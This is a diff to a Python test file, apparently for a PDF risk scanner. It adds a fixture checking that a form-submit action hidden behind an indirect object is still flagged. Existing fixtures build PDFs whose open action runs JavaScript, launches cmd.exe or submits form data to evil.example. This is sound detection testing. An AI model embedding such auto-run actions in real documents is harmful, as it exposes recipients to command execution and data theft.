@@ -25,6 +25,16 @@ def action(kind: str, **more: str) -> Callable[[PdfWriter], None]:
     return change
 
 
+def action_aside(kind: str) -> Callable[[PdfWriter], None]:
+    """An action whose kind stands in an object of its own."""
+
+    def change(writer: PdfWriter) -> None:
+        name = writer._add_object(NameObject(kind))
+        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): name})
+
+    return change
+
+
 def a_form(writer: PdfWriter) -> None:
     """A dynamic form."""
     form: dict[PdfObject, PdfObject] = {NameObject("/XFA"): ArrayObject()}
@@ -64,6 +74,7 @@ STREAM = b"9 0 obj <</Type /Obj#53tm>> stream\nendstream endobj\n%%EOF"
         (b"\0\0\0\x18ftypheic", "heic"),
         (b"%PDF-1.7 nonsense", "damaged"),
         (A_PDF[:-6], "damaged"),
+        (pdf(action_aside("/SubmitForm")), "action"),
         (pdf(action("/JavaScript", JS="app.alert(1)")), "script"),
         (pdf(action("/Launch", F="cmd.exe")), "action"),
         (pdf(action("/SubmitForm", F="https://evil.example")), "action"),
